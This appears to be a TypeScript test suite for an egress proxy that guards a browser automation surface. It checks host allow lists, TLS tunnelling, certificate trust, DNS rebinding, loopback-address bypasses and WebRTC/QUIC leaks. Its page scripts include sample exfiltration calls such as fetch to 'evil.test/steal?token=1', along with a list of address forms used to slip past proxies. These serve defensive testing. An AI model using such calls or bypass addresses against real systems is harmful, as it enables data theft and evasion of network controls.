import { startEgressProxy, type WorkerEgress, type Resolver } from '@pilothouse/infra-egress';
import type { EgressRules } from '@pilothouse/core/egress/egress-decision';
import { parseHostRules } from '@pilothouse/core/egress/host-rules';
import type { EgressPolicy } from '@pilothouse/core/ports/egress.port';
import type { Surface } from '@pilothouse/core/ports/surface.port';
import { BrowserHost, createTrustingHome, type HostOptions } from '@pilothouse/surface-browser';
import type { EgressBlock } from '@pilothouse/contract/project/egress.schema';
import { createSocket, type Socket as Udp } from 'node:dgram';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type RequestListener, type Server } from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { TLSSocket } from 'node:tls';
import { WebSocketServer } from 'ws';
import {
  testAuthority,
  untrustedKey,
  key,
  authoritySignedSite as issued,
  chromiumTrustArgument,
} from '../testing/test-certificates.fixture.ts';

const log = { debug: () => {}, info: () => {}, warn: () => {}, error: () => {} };
const context = () => ({ signal: new AbortController().signal, deadline: performance.now() + 20_000, log });

/** A page whose script writes its result into the title. */
const page = (script: string) => `<!doctype html><title>...</title><body><script type="module">
  const told = (text) => { document.title = 'done: ' + text; };
  ${script}
</script>`;

let site: Server;
let port: number;
let secure: Server;
let securePort: number;
let udp: Udp;
let packets = 0;
let folder: string;
let script = '';
const requestedUrls: string[] = [];
/** Host names requested from the site over TLS. */
const serverNames: unknown[] = [];
beforeAll(async () => {
  const answers: RequestListener = ({ url = '', headers }, answer) => {
    requestedUrls.push(`${headers.host}${url}`);
    answer.setHeader('access-control-allow-origin', '*');
    if (url.startsWith('/page')) answer.setHeader('content-type', 'text/html').end(page(script));
    else answer.end('there');
  };
  site = createServer(answers);
  secure = createTlsServer({ key, cert: untrustedKey }, answers);
  secure.on('secureConnection', (socket: TLSSocket) => serverNames.push(socket.servername));
  for (const server of [site, secure]) {
    new WebSocketServer({ server }).on('connection', (socket) => {
      socket.on('message', (data) => socket.send(`echo ${String(data)}`));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  }
  port = (site.address() as AddressInfo).port;
  securePort = (secure.address() as AddressInfo).port;
  udp = createSocket('udp4');
  udp.on('message', () => (packets += 1));
  await new Promise<void>((resolve) => udp.bind(0, '0.0.0.0', resolve));
  folder = await mkdtemp(join(tmpdir(), 'egress-'));
});
afterAll(async () => {
  site.close();
  secure.close();
  udp.close();
  await rm(folder, { recursive: true, force: true });
});

const closing: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  for (const close of closing.splice(0).reverse()) await close();
});
beforeEach(() => {
  requestedUrls.length = 0;
  serverNames.length = 0;
  packets = 0;
});

interface OpenedSurface {
  readonly surface: Surface;
  readonly blocks: EgressBlock[];
  readonly policy: EgressPolicy;
}

/** A surface behind an egress proxy. All names resolve to this machine by default. */
async function open(
  rules: Partial<EgressRules>,
  resolve: Resolver = async () => ['127.0.0.1'],
  launch: Pick<HostOptions, 'args' | 'environment'> = {},
): Promise<OpenedSurface> {
  const egress: WorkerEgress = startEgressProxy({ resolve });
  const host = new BrowserHost({ egress, ...launch });
  closing.push(
    () => egress.close(),
    () => host.close(),
  );
  await host.warm(context());
  const blocks: EgressBlock[] = [];
  const policy: EgressPolicy = {
    rules: { lists: [], private: parseHostRules(['private']), ...rules },
    upstream: async () => null,
    signal: new AbortController().signal,
    mayAct: () => true,
    waitUntilMayAct: async () => undefined,
    onBlocked: (refusal) => blocks.push(refusal),
    onFailed: () => {},
  };
  return { surface: await host.open({ folder, egress: policy }, context()), blocks, policy };
}

const act = () => ({
  ...context(),
  guard: () => {},
  reveal: async (text: string) => text,
  file: async (name: string) => name,
});
const navigateTo = (surface: Surface, url: string) => surface.act({ action: 'navigate', url }, act());

/** Opens a page with a script, and returns its result. */
async function runScript(
  { surface }: OpenedSurface,
  text: string,
  origin = `http://shop.test:${port}`,
): Promise<string> {
  script = text;
  await navigateTo(surface, `${origin}/page`);
  await surface.expect({ title: 'done: ' }, context());
  return (await surface.anchors(context())).title.slice('done: '.length);
}

const list = (...patterns: string[]) => ({ lists: [{ scope: 'project' as const, rules: parseHostRules(patterns) }] });

test('a page of an allowed host opens; frames, fetches and sockets to other hosts are refused and reported', async () => {
  const opened = await open(list('shop.test'));
  const result = await runScript(
    opened,
    `const tried = await Promise.all([
       fetch('http://shop.test:${port}/data').then((r) => r.text(), () => 'refused'),
       fetch('http://evil.test:${port}/steal?token=1').then((r) => r.text(), () => 'refused'),
       new Promise((resolve) => {
         const socket = new WebSocket('ws://shop.test:${port}/');
         socket.onopen = () => socket.send('hi');
         socket.onmessage = ({ data }) => resolve(data);
         socket.onerror = () => resolve('refused');
       }),
       new Promise((resolve) => {
         const socket = new WebSocket('ws://evil.test:${port}/');
         socket.onopen = () => resolve('open');
         socket.onerror = () => resolve('refused');
       }),
     ]);
     told(tried.join());`,
  );
  expect(result).toBe('there,refused,echo hi,refused');
  expect(new Set(opened.blocks.map(({ host, rule }) => `${host} ${rule}`))).toEqual(new Set(['evil.test project']));
  expect(requestedUrls.every((url) => url.startsWith('shop.test:'))).toBe(true);
});

describe('over TLS', () => {
  /** Resolved hosts: those with a requested tunnel that the proxy allows. */
  const recordLookups = () => {
    const hosts: string[] = [];
    const resolve: Resolver = async (host) => {
      hosts.push(host);
      return ['127.0.0.1'];
    };
    return { hosts, resolve };
  };

  test('a page connects through a tunnel of the proxy, which checks each host', async () => {
    const { hosts, resolve } = recordLookups();
    const opened = await open(list('shop.test'), resolve, { args: [chromiumTrustArgument()] });
    const result = await runScript(
      opened,
      `const of = (url) => fetch(url).then((r) => r.text(), () => 'refused');
       const socket = (url) => new Promise((resolve) => {
         const one = new WebSocket(url);
         one.onopen = () => one.send('hi');
         one.onmessage = ({ data }) => resolve(data);
         one.onerror = () => resolve('refused');
       });
       told((await Promise.all([
         of('/data'), socket('wss://shop.test:${securePort}/'),
         of('https://evil.test:${securePort}/steal?token=1'), socket('wss://evil.test:${securePort}/'),
       ])).join());`,
      `https://shop.test:${securePort}`,
    );
    expect(result).toBe('there,echo hi,refused,refused');
    expect(requestedUrls).toContain(`shop.test:${securePort}/data`);
    expect(requestedUrls.every((url) => url.startsWith(`shop.test:${securePort}/`))).toBe(true);
    expect(new Set(serverNames)).toEqual(new Set(['shop.test']));
    expect(new Set(hosts)).toEqual(new Set(['shop.test']));
    // The proxy cannot see inside a tunnel: it reports only the destination.
    const refusals = opened.blocks.map(({ host, port: blockedPort, rule }) => `${host}:${blockedPort} ${rule}`);
    expect(new Set(refusals)).toEqual(new Set([`evil.test:${securePort} project`]));
    expect(JSON.stringify(opened.blocks)).not.toContain('token');
  });

  test('the browser validates the certificate: an untrusted one opens no page', async () => {
    const { hosts, resolve } = recordLookups();
    const { surface, blocks } = await open(list('shop.test'), resolve);
    const going = navigateTo(surface, `https://shop.test:${securePort}/page`);
    await expect(going).rejects.toMatchObject({
      code: 'NAVIGATION_FAILED',
      message: expect.stringContaining('ERR_CERT_AUTHORITY_INVALID'),
    });
    expect(new Set(hosts)).toEqual(new Set(['shop.test']));
    expect(requestedUrls).toEqual([]);
    // Chromium checks for a captive portal over the same route as the page.
    expect(blocks.filter(({ host }) => host !== 'connectivitycheck.gstatic.com')).toEqual([]);
  });
});

describe('a custom certificate authority', () => {
  const childEnvironment = { PATH: process.env.PATH ?? '' };
  const trustIn = async (...trustedAuthorities: string[]) => {
    const home = await mkdtemp(join(folder, 'home-'));
    return {
      ...childEnvironment,
      HOME: await createTrustingHome({ authorities: trustedAuthorities, folder: home, environment: childEnvironment }),
    };
  };

  test('opens its own sites, and no others', async () => {
    const inside = createTlsServer(issued, (_request, answer) => answer.end('<title>Inside</title>'));
    await new Promise<void>((resolve) => inside.listen(0, '127.0.0.1', resolve));
    closing.push(async () => inside.close());
    const { port: insidePort } = inside.address() as AddressInfo;
    const { surface } = await open({}, undefined, { environment: await trustIn(testAuthority) });
    await navigateTo(surface, `https://intranet.test:${insidePort}/`);
    expect((await surface.anchors(context())).title).toBe('Inside');
    for (const address of [`shop.test:${securePort}`, `other.test:${insidePort}`]) {
      await expect(navigateTo(surface, `https://${address}/`)).rejects.toMatchObject({
        message: expect.stringContaining('ERR_CERT'),
      });
    }
  });

  test('may be the certificate of the site itself, in a bundle', async () => {
    const { surface } = await open({}, undefined, { environment: await trustIn(testAuthority, untrustedKey) });
    script = '';
    await navigateTo(surface, `https://shop.test:${securePort}/page`);
    expect(requestedUrls).toContain(`shop.test:${securePort}/page`);
  });

  test('reports what is missing where it cannot be trusted', async () => {
    const options = {
      authorities: [testAuthority],
      folder: join(folder, 'untrusted'),
      environment: { PATH: '/nowhere' },
    };
    await expect(createTrustingHome(options)).rejects.toMatchObject({
      code: 'SURFACE_UNAVAILABLE',
      message: expect.stringContaining('apt-get install libnss3-tools'),
    });
  });
});

test('the browser sends no query about form fields', async () => {
  const opened = await open(list('shop.test'));
  const result = await runScript(
    opened,
    `document.body.innerHTML = '<form><input name=user><input name=pw type=password><input name=email type=email></form>';
     document.querySelector('input').focus();
     // It would be sent after the form was parsed: in a later frame.
     for (let frames = 0; frames < 60; frames += 1) await new Promise(requestAnimationFrame);
     told('done');`,
  );
  expect(result).toBe('done');
  expect(opened.blocks).toEqual([]);
});

test('opening a refused page fails', async () => {
  const { surface, blocks } = await open(list('shop.test'));
  await expect(navigateTo(surface, `http://evil.test:${port}/page`)).rejects.toMatchObject({
    code: 'NAVIGATION_FAILED',
  });
  await expect(navigateTo(surface, `https://evil.test:${port}/page`)).rejects.toMatchObject({
    code: 'NAVIGATION_FAILED',
  });
  expect(new Set(blocks.map(({ host, port: blockedPort, rule }) => `${host} ${blockedPort === port} ${rule}`))).toEqual(
    new Set(['evil.test true project']),
  );
  expect(requestedUrls).toEqual([]);
});

test.each(['127.0.0.1', 'localhost', '[::1]', '0.0.0.0', '2130706433', '169.254.169.254', '[::ffff:127.0.0.1]'])(
  'the browser does not bypass the proxy for %s',
  async (host) => {
    const { surface, blocks } = await open({ private: [] });
    await expect(navigateTo(surface, `http://${host}:${port}/page`)).rejects.toMatchObject({
      code: 'NAVIGATION_FAILED',
    });
    expect(blocks[0]).toMatchObject({ port, rule: 'private-address' });
    expect(requestedUrls).toEqual([]);
  },
);

test('a page with a rebound host name cannot reach this machine', async () => {
  let times = 0;
  // The page is allowed with a public address; the second lookup returns a private one.
  const resolve: Resolver = async (host) => (host === 'sub.rebind.test' && times++ > 0 ? ['127.0.0.1'] : ['127.0.0.2']);
  const outside = createServer((_request, answer) => {
    answer.setHeader('content-type', 'text/html').setHeader('connection', 'close').end(page(script));
  });
  await new Promise<void>((resolve) => outside.listen(port, '127.0.0.2', resolve));
  closing.push(async () => outside.close());
  const opened = await open({ private: parseHostRules(['127.0.0.2']) }, resolve);
  expect(
    await runScript(
      opened,
      `const tries = [];
       for (let i = 0; i < 5; i += 1) tries.push(await fetch('/inside?' + i).then((r) => r.text(), () => 'refused'));
       told(String(tries.some((text) => text === 'there')));`,
      `http://sub.rebind.test:${port}`,
    ),
  ).toBe('false');
  expect(requestedUrls).toEqual([]);
});

test('no packet bypasses the proxy: neither WebRTC nor QUIC', async () => {
  const opened = await open({});
  const stun = udp.address().port;
  const result = await runScript(
    opened,
    `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun}' }, { urls: 'stun:localhost:${stun}' }] });
     const found = [];
     peer.onicecandidate = ({ candidate }) => { if (candidate?.candidate) found.push(candidate.candidate); };
     peer.createDataChannel('x');
     await peer.setLocalDescription(await peer.createOffer());
     await new Promise((resolve) => {
       peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve();
       setTimeout(resolve, 4000);
     });
     let quic = 'none';
     if (globalThis.WebTransport) quic = await new WebTransport('https://127.0.0.1:${stun}/').ready.then(() => 'open', () => 'refused');
     told([found.filter((text) => / udp /i.test(text)).length, quic].join());`,
    `http://localhost:${port}`,
  );
  expect(result).toMatch(/^0,(refused|none)$/);
  expect(packets).toBe(0);
});

test('a surface without rules reaches nothing, and its proxy ends with it', async () => {
  const egress = startEgressProxy({ resolve: async () => ['127.0.0.1'] });
  const host = new BrowserHost({ egress });
  closing.push(
    () => egress.close(),
    () => host.close(),
  );
  const surface = await host.open({ folder }, context());
  await expect(navigateTo(surface, `http://shop.test:${port}/page`)).rejects.toMatchObject({
    code: 'NAVIGATION_FAILED',
  });
  expect(requestedUrls).toEqual([]);
});
